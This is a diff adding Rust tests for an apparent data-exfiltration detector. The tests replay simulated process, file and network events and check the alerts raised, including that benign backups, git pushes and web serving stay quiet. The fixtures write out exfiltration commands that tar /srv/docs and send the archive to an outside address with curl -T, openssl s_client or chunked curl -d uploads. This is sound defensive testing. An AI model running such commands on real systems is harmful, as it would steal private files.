@@ -1,1 +1,244 @@
+//! Stories told as events, and what the pipeline makes of them.
 
+mod scene;
+
+use scene::{Scene, TTY, pipe_in, pipe_out};
+
+use super::*;
+use crate::{alert::Alert, detect::Stage};
+
+const DOCUMENTS: u64 = 60;
+const OUTSIDE: &str = "198.51.100.2:443";
+
+fn alerts(scene: &Scene) -> Vec<Alert> {
+    run(scene, Config::default())
+        .into_iter()
+        .filter_map(|record| match record.body {
+            Body::Alert(alert) => Some(*alert),
+            Body::Signal(_) | Body::Start { .. } | Body::Stop { .. } | Body::Heartbeat { .. } | Body::Gap { .. } => None,
+        })
+        .collect()
+}
+
+fn run(scene: &Scene, config: Config) -> Vec<Record> {
+    let mut pipeline = Pipeline::new(config);
+    let mut out = Vec::new();
+    for event in &scene.events {
+        pipeline.step(event, &mut out);
+    }
+    out
+}
+
+fn ids(alerts: &[Alert]) -> HashSet<&str> {
+    alerts.iter().map(|alert| alert.id.as_str()).collect()
+}
+
+fn chain(alert: &Alert) -> Vec<String> {
+    alert.chain.iter().map(|link| String::from_utf8_lossy(link.process.name()).into_owned()).collect()
+}
+
+/// A script packs documents and sends the archive with `tool`.
+fn archive_and_send(scene: &mut Scene, tool: &str, argv: &[&str], bytes: u64) {
+    scene.spawn(10, 100, "/bin/dash", &["sh", "/root/exfil.sh"]);
+    scene.spawn(100, 101, "/usr/bin/tar", &["tar", "-czf", "/var/tmp/a.tar.gz", "/srv/docs"]);
+    scene.write(101, 9_000, "/var/tmp/a.tar.gz");
+    for number in 0..DOCUMENTS {
+        scene.read(101, 1_000 + number, &format!("/srv/docs/{number}.pdf"), 200_000);
+    }
+    scene.exit(101);
+    scene.spawn(100, 102, tool, argv);
+    scene.read(102, 9_000, "/var/tmp/a.tar.gz", 12_000_000);
+    scene.connect(102, 7, OUTSIDE);
+    scene.send(102, 7, OUTSIDE, bytes, 500_000);
+}
+
+#[test]
+fn an_archive_that_is_uploaded_is_one_alert_that_names_everybody() {
+    let rows: &[(&str, &[&str])] = &[
+        ("/usr/bin/curl", &["curl", "-T", "/var/tmp/a.tar.gz", "http://198.51.100.2:443/"]),
+        ("/tmp/x", &["x", "-T", "/var/tmp/a.tar.gz", "http://198.51.100.2:443/"]),
+        ("/opt/own-sender", &["own-sender"]),
+    ];
+    for (tool, argv) in rows {
+        let mut scene = Scene::new();
+        archive_and_send(&mut scene, tool, argv, 12_050_000);
+        scene.stop();
+        let alerts = alerts(&scene);
+        assert_eq!(ids(&alerts).len(), 1, "{tool}");
+        let (first, last) = (alerts.first().unwrap(), alerts.last().unwrap());
+        assert_eq!((first.action, last.action), (Action::Opened, Action::Closed), "{tool}");
+        assert_eq!(first.process.key.pid, 102, "{tool}");
+        assert!((5_000_000..5_600_000).contains(&first.bytes_out), "{tool}: {}", first.bytes_out);
+        assert_eq!(last.bytes_out, 12_050_000, "{tool}");
+        assert_eq!(last.bytes_collected, DOCUMENTS * 200_000, "{tool}");
+        let sender = tool.rsplit('/').next().unwrap();
+        assert_eq!(chain(last), ["dash", "tar", sender], "{tool}");
+        assert_eq!(last.files.first().unwrap().path, "/var/tmp/a.tar.gz".into(), "{tool}");
+        assert_eq!(last.destinations.first().unwrap().remote, OUTSIDE.parse().unwrap(), "{tool}");
+        let revisions: Vec<u32> = alerts.iter().map(|alert| alert.revision).collect();
+        let expected: Vec<u32> = (1..).take(alerts.len()).collect();
+        assert_eq!(revisions, expected, "{tool}");
+    }
+}
+
+#[test]
+fn a_pipe_into_a_sender_is_one_story() {
+    let mut scene = Scene::new();
+    scene.spawn(10, 100, "/bin/dash", &["sh", "-c", "tar cf - docs | openssl s_client"]);
+    scene.spawn_with(100, 102, "/usr/bin/openssl", &["openssl", "s_client", "-connect", OUTSIDE], pipe_in(5));
+    scene.spawn_with(100, 101, "/usr/bin/tar", &["tar", "cf", "-", "/srv/docs"], pipe_out(5));
+    for number in 0..DOCUMENTS {
+        scene.read(101, 1_000 + number, &format!("/srv/docs/{number}.docx"), 200_000);
+    }
+    scene.connect(102, 7, OUTSIDE);
+    scene.send(102, 7, OUTSIDE, 12_400_000, 500_000);
+    scene.stop();
+    let alerts = alerts(&scene);
+    assert_eq!(ids(&alerts).len(), 1);
+    let last = alerts.last().unwrap();
+    assert_eq!(last.process.key.pid, 102);
+    assert!(chain(last).contains(&"tar".to_owned()));
+    assert_eq!(last.bytes_collected, 12_000_000);
+}
+
+#[test]
+fn data_connects_two_commands_typed_one_after_the_other() {
+    let mut scene = Scene::new();
+    scene.spawn_with(10, 50, "/bin/bash", &["bash"], [TTY; 3]);
+    scene.spawn(50, 101, "/usr/bin/tar", &["tar", "-cf", "/opt/b", "/srv/docs"]);
+    scene.write(101, 9_000, "/opt/b");
+    for number in 0..DOCUMENTS {
+        scene.read(101, 1_000 + number, &format!("/srv/docs/{number}.pdf"), 200_000);
+    }
+    scene.exit(101);
+    scene.spawn(50, 102, "/opt/own-sender", &["own-sender"]);
+    scene.read(102, 9_000, "/opt/b", 12_000_000);
+    scene.send(102, 7, OUTSIDE, 12_050_000, 500_000);
+    scene.stop();
+    let alerts = alerts(&scene);
+    assert_eq!(ids(&alerts).len(), 1);
+    assert!(chain(alerts.last().unwrap()).contains(&"tar".to_owned()));
+}
+
+#[test]
+fn many_short_senders_of_one_script_are_one_story() {
+    let mut scene = Scene::new();
+    scene.spawn(10, 100, "/bin/dash", &["sh", "/root/chunks.sh"]);
+    scene.spawn(100, 101, "/usr/bin/tar", &["tar", "-cf", "/var/tmp/b", "/srv/docs"]);
+    scene.write(101, 9_000, "/var/tmp/b");
+    for number in 0..DOCUMENTS {
+        scene.read(101, 1_000 + number, &format!("/srv/docs/{number}.pdf"), 200_000);
+    }
+    scene.exit(101);
+    for pid in 200..700 {
+        scene.spawn(100, pid, "/usr/bin/curl", &["curl", "-d", "@-", "http://198.51.100.2:443/"]);
+        scene.connect(pid, u64::from(pid), OUTSIDE);
+        scene.send(pid, u64::from(pid), OUTSIDE, 20_000, 20_000);
+        scene.exit(pid);
+    }
+    scene.stop();
+    let alerts = alerts(&scene);
+    assert_eq!(ids(&alerts).len(), 1);
+    assert_eq!(alerts.last().unwrap().bytes_out, 10_000_000);
+}
+
+#[test]
+fn honest_work_wakes_nobody() {
+    type Tell = fn(&mut Scene);
+    let rows: &[(&str, Tell)] = &[
+        ("a page", |scene| {
+            scene.spawn(10, 100, "/usr/bin/curl", &["curl", "http://198.51.100.2/"]);
+            scene.connect(100, 7, "198.51.100.2:80");
+            scene.send(100, 7, "198.51.100.2:80", 100, 100);
+        }),
+        ("a local backup", |scene| {
+            scene.spawn(10, 100, "/usr/bin/tar", &["tar", "-czf", "/var/tmp/home.tgz", "/home"]);
+            scene.write(100, 9_000, "/var/tmp/home.tgz");
+            for number in 0..DOCUMENTS {
+                scene.read(100, 1_000 + number, &format!("/home/a/{number}.pdf"), 200_000);
+            }
+        }),
+        ("a backup to an inside host", |scene| {
+            archive_and_send(scene, "/usr/bin/sleep", &["sleep"], 0);
+            scene.spawn(10, 200, "/usr/bin/curl", &["curl", "-T", "/var/tmp/a.tar.gz", "http://10.0.0.2/"]);
+            scene.read(200, 9_000, "/var/tmp/a.tar.gz", 12_000_000);
+            scene.connect(200, 9, "10.0.0.2:80");
+            scene.send(200, 9, "10.0.0.2:80", 12_000_000, 500_000);
+        }),
+        ("everything made ready, nothing sent", |scene| {
+            archive_and_send(scene, "/usr/bin/curl", &["curl", "-T", "/var/tmp/a.tar.gz", "http://198.51.100.2/"], 300);
+        }),
+        ("a push of a repository", |scene| {
+            scene.spawn(10, 100, "/usr/bin/git", &["git", "push"]);
+            scene.spawn(100, 101, "/usr/lib/git-core/git-remote-https", &["git-remote-https", "origin"]);
+            scene.connect(101, 7, OUTSIDE);
+            scene.send(101, 7, OUTSIDE, 30_000_000, 1_000_000);
+        }),
+        ("documents served to those who ask", |scene| {
+            scene.spawn(10, 100, "/usr/sbin/nginx", &["nginx"]);
+            for number in 0..DOCUMENTS {
+                scene.read(100, 1_000 + number, &format!("/srv/www/{number}.pdf"), 200_000);
+            }
+            scene.accept(100, 7, "198.51.100.2:50000", 12_000_000);
+        }),
+    ];
+    for (name, tell) in rows {
+        let mut scene = Scene::new();
+        tell(&mut scene);
+        scene.stop();
+        assert_eq!(ids(&alerts(&scene)), HashSet::new(), "{name}");
+    }
+}
+
+#[test]
+fn a_trust_rule_covers_its_volume_and_no_more() {
+    for (cap, expected) in [("", 0), ("daily_bytes = 4000000\n", 1)] {
+        let text = format!("[[trust]]\nname = \"backup\"\ndestinations = [\"198.51.100.0/24\"]\n{cap}");
+        let config = Config::parse(&text, "test.toml").unwrap();
+        let mut scene = Scene::new();
+        archive_and_send(&mut scene, "/usr/bin/curl", &["curl", "-T", "/var/tmp/a.tar.gz", OUTSIDE], 12_050_000);
+        scene.stop();
+        let opened = run(&scene, config)
+            .iter()
+            .filter(|record| matches!(&record.body, Body::Alert(alert) if alert.action == Action::Opened))
+            .count();
+        assert_eq!(opened, expected, "{cap}");
+    }
+}
+
+#[test]
+fn an_alert_closes_when_its_story_is_quiet_and_a_late_one_is_new() {
+    let mut scene = Scene::new();
+    archive_and_send(&mut scene, "/usr/bin/curl", &["curl", "-T", "/var/tmp/a.tar.gz", OUTSIDE], 12_050_000);
+    scene.wait(3_600);
+    scene.tick();
+    let lines = alerts(&scene);
+    assert_eq!(lines.last().unwrap().action, Action::Closed);
+    assert_eq!(ids(&lines).len(), 1);
+}
+
+#[test]
+fn the_numbers_in_an_alert_recompute_its_score() {
+    let mut scene = Scene::new();
+    archive_and_send(&mut scene, "/usr/bin/curl", &["curl", "-T", "/var/tmp/a.tar.gz", OUTSIDE], 12_050_000);
+    scene.stop();
+    for alert in alerts(&scene) {
+        let again = crate::score::formula::judge(alert.verdict.signals.clone(), alert.verdict.proof);
+        assert!((again.score - alert.verdict.score).abs() < 1e-9);
+        assert!(alert.verdict.stages.iter().any(|(stage, _)| *stage == Stage::Egress));
+    }
+}
+
+#[test]
+fn events_in_any_order_and_about_nobody_do_no_harm() {
+    let mut scene = Scene::new();
+    archive_and_send(&mut scene, "/usr/bin/curl", &["curl", "-T", "/var/tmp/a.tar.gz", OUTSIDE], 12_050_000);
+    scene.stop();
+    scene.events.reverse();
+    let mut pipeline = Pipeline::new(Config::default());
+    let mut out = Vec::new();
+    for event in &scene.events {
+        pipeline.step(event, &mut out);
+    }
+    assert_eq!(pipeline.totals().events, scene.events.len() as u64);
+}
